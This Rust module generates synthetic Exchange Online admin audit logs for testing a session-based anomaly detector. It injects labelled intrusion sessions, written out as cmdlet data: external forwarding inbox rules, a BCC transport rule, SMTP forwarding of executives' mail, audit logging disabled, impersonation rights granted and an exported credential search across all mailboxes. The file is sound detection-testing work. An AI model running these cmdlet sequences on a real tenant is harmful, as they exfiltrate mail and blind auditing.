//! Exchange Online admin activity in the shape of the Office 365 Management Activity API
//! (`ExchangeAdmin` records, `RecordType` 1: one JSON object per line), for the `sequence`
//! detector.
//!
//! The organisation's administrators run admin sessions in working hours: a session is one to
//! three everyday tasks (look up a mailbox, change quotas, add a group member, onboard or
//! offboard a user, share a mailbox, trace a message, ...), each a short, realistic run of
//! cmdlets with their parameters, a few seconds to a minute apart. A provisioning service
//! account runs the same sync every two hours around the clock. Now and then an admin does
//! something rare but legitimate (a disclaimer transport rule, a compliance search).
//!
//! [`attack_sessions`] injects what Exchange intrusions look like — a compromised admin
//! account, from an outside IP, at night: mailbox delegation then an external forwarding
//! inbox rule, a BCC transport rule, SMTP forwarding of executives' mail, audit logging
//! switched off, ApplicationImpersonation granted, an eDiscovery search exported — each
//! labelled with the id the `sequence` detector gives the session with its default keys
//! (`user.name`, `source.ip`): [`session_id`].
//!
//! Sessions of one admin and IP are always more than 20 minutes apart and last less than 20,
//! so the detector's default limits (20 minutes per session, 2 between events) cut them where
//! they were generated. Deterministic for a seed.

use crate::environment::Environment;
use crate::windows::guid;
use crate::Label;
use oddhunt_core::Timestamp;
use rand::Rng;
use rand_chacha::ChaCha8Rng;
use serde_json::json;
use std::io::Write;

const NANOS: i64 = 1_000_000_000;
const MINUTE: i64 = 60 * NANOS;
const HOUR: i64 = 60 * MINUTE;

/// One audited cmdlet.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AdminRecord {
    /// Nanoseconds since the epoch (whole seconds, as `CreationTime`).
    pub time_ns: i64,
    /// The actor's user principal name.
    pub user: String,
    /// Client IP address (without port).
    pub client_ip: String,
    /// Client port, when the record carries one (`ClientIP` = `ip:port`).
    pub port: Option<u16>,
    /// The cmdlet.
    pub operation: String,
    /// Its parameters, in order.
    pub params: Vec<(String, String)>,
}

impl AdminRecord {
    /// The audit record as one JSON line.
    pub fn to_json(&self, env: &Environment, rng: &mut ChaCha8Rng) -> String {
        let time = Timestamp::from_unix_nanos(self.time_ns).to_string();
        // The Management Activity API writes CreationTime without a zone (it is UTC).
        let creation = time.trim_end_matches('Z');
        let object = self
            .params
            .iter()
            .find(|(n, _)| n == "Identity" || n == "Mailbox")
            .map_or("", |(_, v)| v.as_str());
        let client_ip = match self.port {
            Some(p) => format!("{}:{p}", self.client_ip),
            None => self.client_ip.clone(),
        };
        let row = json!({
            "CreationTime": creation,
            "Id": guid(rng).to_lowercase(),
            "Operation": self.operation,
            "OrganizationId": "5b7a2e5c-3f4d-4c8b-9a51-0c6f9e2d8a17",
            "RecordType": 1,
            "ResultStatus": "True",
            "UserKey": format!("10032001{:08X}@{}", self.user.len() * 7919, env.dns_domain),
            "UserType": 2,
            "Version": 1,
            "Workload": "Exchange",
            "ClientIP": client_ip,
            "ObjectId": object,
            "UserId": self.user,
            "AppId": "",
            "ClientAppId": "",
            "ExternalAccess": false,
            "OrganizationName": "corpexample.onmicrosoft.com",
            "OriginatingServer": format!("BN{}PR12MB{} (15.20.7409.039)", rng.random_range(1..9), rng.random_range(1000..9999)),
            "Parameters": self.params.iter().map(|(n, v)| json!({"Name": n, "Value": v})).collect::<Vec<_>>(),
        });
        row.to_string()
    }
}

/// The id the `sequence` detector gives a session with its default keys: `user|ip@start`, the
/// start as RFC 3339 (the same text as `oddhunt_detect::sequence::session::session_id`).
pub fn session_id(user: &str, client_ip: &str, start_ns: i64) -> String {
    format!(
        "{user}|{client_ip}@{}",
        Timestamp::from_unix_nanos(start_ns)
    )
}

/// Options for [`generate`].
#[derive(Clone, Debug)]
pub struct ExchangeOptions {
    /// Mean admin sessions per administrator per weekday (weekends: a fifth).
    pub sessions_per_admin_day: f64,
    /// Inject [`attack_sessions`] on this day (0-based), if any.
    pub attack_day: Option<u32>,
}

impl Default for ExchangeOptions {
    fn default() -> Self {
        ExchangeOptions {
            sessions_per_admin_day: 2.0,
            attack_day: None,
        }
    }
}

/// A parameter value in a task template.
#[derive(Clone, Copy)]
enum V {
    /// The task's target mailbox (UPN).
    Target,
    /// The target's display name.
    TargetName,
    /// The target's alias.
    TargetAlias,
    /// The target's calendar folder.
    TargetCalendar,
    /// Another user (UPN).
    Other,
    /// A shared mailbox.
    Shared,
    /// A distribution group.
    Group,
    /// A message-trace date range bound, days back.
    DaysBack(i64),
    /// A GUID.
    Guid,
    /// A fixed value.
    Lit(&'static str),
    /// One of several values.
    Pick(&'static [&'static str]),
}

type Step = (&'static str, &'static [(&'static str, V)]);

/// A cmdlet with its rendered parameters.
type Cmdlet = (String, Vec<(String, String)>);

struct Task {
    weight: f64,
    steps: &'static [Step],
}

const TITLES: &[&str] = &[
    "Analyst",
    "Senior Analyst",
    "Manager",
    "Engineer",
    "Consultant",
];
const DEPARTMENTS: &[&str] = &[
    "Finance",
    "HR",
    "Engineering",
    "Sales",
    "Marketing",
    "Operations",
    "Legal",
    "IT",
];
const GROUPS: &[&str] = &[
    "all-staff",
    "finance-team",
    "eng-announce",
    "sales-emea",
    "it-oncall",
    "hr-private",
];
const SHARED: &[&str] = &[
    "accounts-payable",
    "helpdesk",
    "recruiting",
    "press",
    "facilities",
];

/// Everyday administration. Weights: how often each task starts a session's part.
const TASKS: &[Task] = &[
    Task {
        weight: 30.0,
        steps: &[
            ("Get-Mailbox", &[("Identity", V::Target)]),
            ("Get-MailboxStatistics", &[("Identity", V::Target)]),
        ],
    },
    Task {
        weight: 12.0,
        steps: &[
            ("Get-Mailbox", &[("Identity", V::Target)]),
            (
                "Set-Mailbox",
                &[
                    ("Identity", V::Target),
                    ("ProhibitSendQuota", V::Pick(&["49GB", "99GB"])),
                    ("IssueWarningQuota", V::Pick(&["45GB", "95GB"])),
                ],
            ),
            ("Get-MailboxStatistics", &[("Identity", V::Target)]),
        ],
    },
    Task {
        weight: 15.0,
        steps: &[
            ("Get-User", &[("Identity", V::Target)]),
            (
                "Set-User",
                &[
                    ("Identity", V::Target),
                    ("Title", V::Pick(TITLES)),
                    ("Department", V::Pick(DEPARTMENTS)),
                ],
            ),
        ],
    },
    Task {
        weight: 15.0,
        steps: &[
            ("Get-DistributionGroup", &[("Identity", V::Group)]),
            (
                "Add-DistributionGroupMember",
                &[("Identity", V::Group), ("Member", V::Target)],
            ),
            ("Get-DistributionGroupMember", &[("Identity", V::Group)]),
        ],
    },
    Task {
        weight: 5.0,
        steps: &[
            (
                "New-Mailbox",
                &[
                    ("Name", V::TargetName),
                    ("Alias", V::TargetAlias),
                    ("MicrosoftOnlineServicesID", V::Target),
                    ("Password", V::Lit("********")),
                    ("ResetPasswordOnNextLogon", V::Lit("True")),
                ],
            ),
            (
                "Set-Mailbox",
                &[
                    ("Identity", V::Target),
                    ("RetentionPolicy", V::Lit("Default MRM Policy")),
                ],
            ),
            (
                "Set-CASMailbox",
                &[
                    ("Identity", V::Target),
                    ("OWAEnabled", V::Lit("True")),
                    ("PopEnabled", V::Lit("False")),
                ],
            ),
            (
                "Add-DistributionGroupMember",
                &[("Identity", V::Lit("all-staff")), ("Member", V::Target)],
            ),
        ],
    },
    Task {
        weight: 6.0,
        steps: &[
            ("Get-Mailbox", &[("Identity", V::Shared)]),
            (
                "Add-MailboxPermission",
                &[
                    ("Identity", V::Shared),
                    ("User", V::Target),
                    ("AccessRights", V::Lit("FullAccess")),
                    ("InheritanceType", V::Lit("All")),
                ],
            ),
            (
                "Add-RecipientPermission",
                &[
                    ("Identity", V::Shared),
                    ("Trustee", V::Target),
                    ("AccessRights", V::Lit("SendAs")),
                    ("Confirm", V::Lit("False")),
                ],
            ),
            ("Get-MailboxPermission", &[("Identity", V::Shared)]),
        ],
    },
    Task {
        weight: 8.0,
        steps: &[
            (
                "Get-MailboxFolderPermission",
                &[("Identity", V::TargetCalendar)],
            ),
            (
                "Add-MailboxFolderPermission",
                &[
                    ("Identity", V::TargetCalendar),
                    ("User", V::Other),
                    ("AccessRights", V::Pick(&["Reviewer", "Editor"])),
                ],
            ),
        ],
    },
    Task {
        weight: 3.0,
        steps: &[
            ("Get-Mailbox", &[("Identity", V::Target)]),
            (
                "Set-Mailbox",
                &[
                    ("Identity", V::Target),
                    ("LitigationHoldEnabled", V::Lit("True")),
                    ("LitigationHoldDuration", V::Pick(&["2555", "3650"])),
                ],
            ),
        ],
    },
    Task {
        weight: 20.0,
        steps: &[
            (
                "Get-MessageTrace",
                &[
                    ("SenderAddress", V::Target),
                    ("StartDate", V::DaysBack(2)),
                    ("EndDate", V::DaysBack(0)),
                ],
            ),
            (
                "Get-MessageTraceDetail",
                &[("MessageTraceId", V::Guid), ("RecipientAddress", V::Other)],
            ),
        ],
    },
    Task {
        weight: 4.0,
        steps: &[
            (
                "Enable-Mailbox",
                &[("Identity", V::Target), ("Archive", V::Lit("True"))],
            ),
            ("Get-Mailbox", &[("Identity", V::Target)]),
        ],
    },
    Task {
        weight: 4.0,
        steps: &[
            (
                "Set-Mailbox",
                &[("Identity", V::Target), ("Type", V::Lit("Shared"))],
            ),
            (
                "Remove-DistributionGroupMember",
                &[
                    ("Identity", V::Group),
                    ("Member", V::Target),
                    ("Confirm", V::Lit("False")),
                ],
            ),
            (
                "Set-CASMailbox",
                &[
                    ("Identity", V::Target),
                    ("OWAEnabled", V::Lit("False")),
                    ("ActiveSyncEnabled", V::Lit("False")),
                ],
            ),
        ],
    },
    Task {
        weight: 3.0,
        steps: &[("Get-InboxRule", &[("Mailbox", V::Target)])],
    },
    // Rare but legitimate.
    Task {
        weight: 0.3,
        steps: &[
            ("Get-TransportRule", &[]),
            (
                "New-TransportRule",
                &[
                    ("Name", V::Lit("External disclaimer")),
                    ("FromScope", V::Lit("InOrganization")),
                    ("SentToScope", V::Lit("NotInOrganization")),
                    (
                        "ApplyHtmlDisclaimerText",
                        V::Lit("<p>This message was sent from outside review.</p>"),
                    ),
                ],
            ),
        ],
    },
    Task {
        weight: 0.3,
        steps: &[
            (
                "New-ComplianceSearch",
                &[
                    ("Name", V::Lit("legal-hold-review")),
                    ("ExchangeLocation", V::Target),
                    ("ContentMatchQuery", V::Lit("subject:\"contract\"")),
                ],
            ),
            (
                "Start-ComplianceSearch",
                &[("Identity", V::Lit("legal-hold-review"))],
            ),
            (
                "Get-ComplianceSearch",
                &[("Identity", V::Lit("legal-hold-review"))],
            ),
        ],
    },
];

/// The provisioning service account's sync.
const SYNC_ACCOUNT: &str = "svc-exo-provisioning";
const SYNC_IP: &str = "52.96.10.20";

/// Users who administer Exchange: the organisation's admins (at least one).
pub fn admins(env: &Environment) -> Vec<usize> {
    let list: Vec<usize> = (0..env.users.len())
        .filter(|&u| env.users[u].admin)
        .collect();
    if list.is_empty() {
        vec![0]
    } else {
        list
    }
}

fn upn(env: &Environment, user: usize) -> String {
    format!("{}@{}", env.users[user].name, env.dns_domain)
}

/// Values of one task: who it is about.
struct Subjects {
    target: usize,
    other: usize,
    group: &'static str,
    shared: &'static str,
}

fn render(env: &Environment, rng: &mut ChaCha8Rng, value: V, s: &Subjects, now: i64) -> String {
    match value {
        V::Target => upn(env, s.target),
        V::TargetName => {
            let name = &env.users[s.target].name;
            let mut c = name.chars();
            match c.next() {
                Some(f) => format!("{}{}", f.to_uppercase(), c.as_str()),
                None => String::new(),
            }
        }
        V::TargetAlias => env.users[s.target].name.clone(),
        V::TargetCalendar => format!("{}:\\Calendar", upn(env, s.target)),
        V::Other => upn(env, s.other),
        V::Shared => format!("{}@{}", s.shared, env.dns_domain),
        V::Group => s.group.to_string(),
        V::DaysBack(d) => {
            let t = Timestamp::from_unix_nanos(now - d * 24 * HOUR);
            let text = t.to_string();
            text.get(..10).unwrap_or(&text).to_string()
        }
        V::Guid => guid(rng).to_lowercase(),
        V::Lit(v) => v.to_string(),
        V::Pick(choices) => choices[rng.random_range(0..choices.len())].to_string(),
    }
}

fn pick_task(rng: &mut ChaCha8Rng) -> &'static Task {
    let total: f64 = TASKS.iter().map(|t| t.weight).sum();
    let mut pick = rng.random::<f64>() * total;
    for task in TASKS {
        if pick < task.weight {
            return task;
        }
        pick -= task.weight;
    }
    &TASKS[0]
}

/// Appends the records of one session starting at `start`; returns the time of its last
/// record.
fn session(
    rng: &mut ChaCha8Rng,
    user: &str,
    ip: &str,
    start: i64,
    steps: &[Cmdlet],
    gap_seconds: (i64, i64),
    out: &mut Vec<AdminRecord>,
) -> i64 {
    let mut t = start;
    // One client port per PowerShell connection, on about half the connections.
    let port = rng.random_bool(0.5).then(|| rng.random_range(1024..65535));
    for (i, (op, params)) in steps.iter().enumerate() {
        if i > 0 {
            t += rng.random_range(gap_seconds.0..=gap_seconds.1) * NANOS;
        }
        out.push(AdminRecord {
            time_ns: t,
            user: user.to_string(),
            client_ip: ip.to_string(),
            port,
            operation: op.clone(),
            params: params.clone(),
        });
    }
    t
}

fn task_steps(env: &Environment, rng: &mut ChaCha8Rng, task: &Task, now: i64) -> Vec<Cmdlet> {
    let n = env.users.len();
    let subjects = Subjects {
        target: rng.random_range(0..n),
        other: rng.random_range(0..n),
        group: GROUPS[rng.random_range(0..GROUPS.len())],
        shared: SHARED[rng.random_range(0..SHARED.len())],
    };
    task.steps
        .iter()
        .map(|(op, params)| {
            let params = params
                .iter()
                .map(|(name, v)| (name.to_string(), render(env, rng, *v, &subjects, now)))
                .collect();
            (op.to_string(), params)
        })
        .collect()
}

/// Generates the admin activity of one day (unsorted).
pub fn day_records(
    env: &Environment,
    rng: &mut ChaCha8Rng,
    day: u32,
    options: &ExchangeOptions,
) -> Vec<AdminRecord> {
    let day_start = env.day_start(day).unix_nanos();
    let weekend = env.is_weekend(day);
    let mut out = Vec::new();
    for admin in admins(env) {
        let mean = options.sessions_per_admin_day * if weekend { 0.2 } else { 1.0 };
        let sessions = (mean * (0.5 + rng.random::<f64>())).round() as usize;
        // Working hours split into half-hour slots; one session per slot at most, starting in
        // its first ten minutes and lasting under twenty, so sessions never touch.
        let mut slots: Vec<i64> = (16..36).collect();
        let user = upn(env, admin);
        let ip = env.users[admin].office_ip.clone();
        for _ in 0..sessions.min(slots.len()) {
            let slot = slots.swap_remove(rng.random_range(0..slots.len()));
            let start = day_start + slot * 30 * MINUTE + rng.random_range(0..600) * NANOS;
            let parts = 1 + usize::from(rng.random_bool(0.35)) + usize::from(rng.random_bool(0.1));
            let mut steps = Vec::new();
            for _ in 0..parts {
                let task = pick_task(rng);
                steps.extend(task_steps(env, rng, task, start));
            }
            session(rng, &user, &ip, start, &steps, (4, 75), &mut out);
        }
    }
    // The provisioning sync: every two hours, two to four users.
    let sync_user = format!("{SYNC_ACCOUNT}@{}", env.dns_domain);
    for k in 0..12 {
        let start = day_start + k * 2 * HOUR + rng.random_range(0..300) * NANOS;
        let mut steps = Vec::new();
        for _ in 0..rng.random_range(2..=4) {
            let target = upn(env, rng.random_range(0..env.users.len()));
            steps.push((
                "Get-User".to_string(),
                vec![("Identity".to_string(), target.clone())],
            ));
            steps.push((
                "Set-User".to_string(),
                vec![
                    ("Identity".to_string(), target.clone()),
                    (
                        "Department".to_string(),
                        DEPARTMENTS[rng.random_range(0..DEPARTMENTS.len())].to_string(),
                    ),
                ],
            ));
            steps.push((
                "Set-Mailbox".to_string(),
                vec![
                    ("Identity".to_string(), target),
                    ("CustomAttribute1".to_string(), "synced".to_string()),
                ],
            ));
        }
        session(rng, &sync_user, SYNC_IP, start, &steps, (1, 3), &mut out);
    }
    out
}

/// Outside addresses the intruder works from.
const ATTACKER_IPS: &[&str] = &["185.220.101.34", "45.133.1.77", "194.26.29.113"];

/// Injects the Exchange intrusion sessions on `day`, at night, from outside addresses, with a
/// compromised admin account; appends one label per session (detector `sequence`, subject
/// [`session_id`]).
pub fn attack_sessions(
    env: &Environment,
    rng: &mut ChaCha8Rng,
    day: u32,
    labels: &mut Vec<Label>,
) -> Vec<AdminRecord> {
    let day_start = env.day_start(day).unix_nanos();
    let admin_list = admins(env);
    let admin = admin_list[rng.random_range(0..admin_list.len())];
    let user = upn(env, admin);
    let ceo = upn(env, 0);
    let cfo = upn(env, 1 % env.users.len());
    let s = |op: &str, params: &[(&str, &str)]| {
        (
            op.to_string(),
            params
                .iter()
                .map(|(n, v)| (n.to_string(), v.to_string()))
                .collect::<Vec<_>>(),
        )
    };
    let attacks: Vec<(&str, &str, Vec<Cmdlet>)> = vec![
        (
            "T1098.002",
            "mailbox delegation to the intruder, then an inbox rule forwarding the CEO's mail outside and deleting it",
            vec![
                s("Get-Mailbox", &[("Identity", &ceo)]),
                s(
                    "Add-MailboxPermission",
                    &[
                        ("Identity", &ceo),
                        ("User", &user),
                        ("AccessRights", "FullAccess"),
                        ("InheritanceType", "All"),
                    ],
                ),
                s(
                    "New-InboxRule",
                    &[
                        ("Mailbox", &ceo),
                        ("Name", "."),
                        ("ForwardTo", "ceo.archive.2024@proton.me"),
                        ("DeleteMessage", "True"),
                        ("MarkAsRead", "True"),
                    ],
                ),
            ],
        ),
        (
            "T1114.003",
            "a transport rule sending a blind copy of all internal mail to an outside address",
            vec![
                s("Get-TransportRule", &[]),
                s(
                    "New-TransportRule",
                    &[
                        ("Name", "Compliance journaling"),
                        ("FromScope", "InOrganization"),
                        ("BlindCopyTo", "journal@mail-archive.example.net"),
                    ],
                ),
                s("Get-TransportRule", &[]),
            ],
        ),
        (
            "T1114.003",
            "SMTP forwarding of the CEO's and CFO's mailboxes to an outside address",
            vec![
                s("Get-Mailbox", &[("ResultSize", "Unlimited")]),
                s(
                    "Set-Mailbox",
                    &[
                        ("Identity", &ceo),
                        ("ForwardingSmtpAddress", "smtp:exec-mail@proton.me"),
                        ("DeliverToMailboxAndForward", "True"),
                    ],
                ),
                s(
                    "Set-Mailbox",
                    &[
                        ("Identity", &cfo),
                        ("ForwardingSmtpAddress", "smtp:exec-mail@proton.me"),
                        ("DeliverToMailboxAndForward", "True"),
                    ],
                ),
            ],
        ),
        (
            "T1562.008",
            "admin audit logging and mailbox auditing switched off",
            vec![
                s("Get-AdminAuditLogConfig", &[]),
                s("Set-AdminAuditLogConfig", &[("AdminAuditLogEnabled", "False")]),
                s("Set-Mailbox", &[("Identity", &ceo), ("AuditEnabled", "False")]),
            ],
        ),
        (
            "T1098",
            "ApplicationImpersonation granted to an account the intruder controls",
            vec![
                s(
                    "New-ManagementRoleAssignment",
                    &[("Role", "ApplicationImpersonation"), ("User", "svc-backup")],
                ),
                s(
                    "Get-ManagementRoleAssignment",
                    &[("Role", "ApplicationImpersonation")],
                ),
            ],
        ),
        (
            "T1114.002",
            "an eDiscovery search of every mailbox for credentials, exported",
            vec![
                s(
                    "New-ComplianceSearch",
                    &[
                        ("Name", "q3-review"),
                        ("ExchangeLocation", "All"),
                        ("ContentMatchQuery", "password OR vpn OR \"wire transfer\""),
                    ],
                ),
                s("Start-ComplianceSearch", &[("Identity", "q3-review")]),
                s(
                    "New-ComplianceSearchAction",
                    &[
                        ("SearchName", "q3-review"),
                        ("Export", "True"),
                        ("Format", "FxStream"),
                    ],
                ),
            ],
        ),
    ];
    let mut out = Vec::new();
    for (i, (technique, description, steps)) in attacks.into_iter().enumerate() {
        let ip = ATTACKER_IPS[i % ATTACKER_IPS.len()];
        // From 01:00, 40 minutes apart: never one session for the detector.
        let start = day_start + HOUR + i as i64 * 40 * MINUTE + rng.random_range(0..300) * NANOS;
        session(rng, &user, ip, start, &steps, (8, 40), &mut out);
        labels.push(Label {
            detector: "sequence".into(),
            subject: session_id(&user, ip, start),
            technique: technique.into(),
            description: format!("{description} (as {user} from {ip})"),
        });
    }
    out
}

/// Writes `env.days` days of Exchange admin activity as JSON lines, in time order, and returns
/// how many records were written.
pub fn generate(
    env: &Environment,
    rng: &mut ChaCha8Rng,
    options: &ExchangeOptions,
    out: &mut dyn Write,
    labels: &mut Vec<Label>,
) -> std::io::Result<u64> {
    let mut written = 0;
    for day in 0..env.days {
        let mut records = day_records(env, rng, day, options);
        if options.attack_day == Some(day) {
            records.extend(attack_sessions(env, rng, day, labels));
        }
        records.sort_by_key(|r| r.time_ns);
        for r in &records {
            writeln!(out, "{}", r.to_json(env, rng))?;
            written += 1;
        }
    }
    Ok(written)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn env(rng: &mut ChaCha8Rng) -> Environment {
        let start = Timestamp::parse("2024-03-04T00:00:00Z").expect("start");
        Environment::new(rng, 10, 60, 3, start)
    }

    #[test]
    fn deterministic_for_a_seed_and_time_ordered() {
        let run = || {
            let mut rng = ChaCha8Rng::seed_from_u64(5);
            let env = env(&mut rng);
            let mut out = Vec::new();
            let mut labels = Vec::new();
            let options = ExchangeOptions {
                attack_day: Some(2),
                ..ExchangeOptions::default()
            };
            let n = generate(&env, &mut rng, &options, &mut out, &mut labels).expect("write");
            (n, out, labels)
        };
        let (n, a, labels) = run();
        let (_, b, _) = run();
        assert_eq!(a, b);
        assert_eq!(labels.len(), 6);
        let text = String::from_utf8(a).expect("utf-8");
        assert_eq!(text.lines().count() as u64, n);
        let mut last = String::new();
        for line in text.lines() {
            let v: serde_json::Value = serde_json::from_str(line).expect("json");
            assert_eq!(v["Workload"], "Exchange");
            assert!(v["Parameters"].is_array());
            let t = v["CreationTime"].as_str().expect("time").to_string();
            assert!(t >= last, "time order");
            last = t;
        }
        assert!(labels.iter().all(|l| l.subject.contains("|185.220.101.34@")
            || l.subject.contains("|45.133.1.77@")
            || l.subject.contains("|194.26.29.113@")));
    }

    #[test]
    fn sessions_of_one_admin_never_touch() {
        let mut rng = ChaCha8Rng::seed_from_u64(9);
        let env = env(&mut rng);
        let mut records = day_records(&env, &mut rng, 0, &ExchangeOptions::default());
        records.sort_by(|a, b| (&a.user, a.time_ns).cmp(&(&b.user, b.time_ns)));
        for pair in records.windows(2) {
            if pair[0].user == pair[1].user {
                let gap = pair[1].time_ns - pair[0].time_ns;
                // Inside a session at most 75 s; between sessions more than 2 minutes.
                assert!(gap <= 75 * NANOS || gap > 2 * MINUTE, "gap {gap}");
            }
        }
    }
}
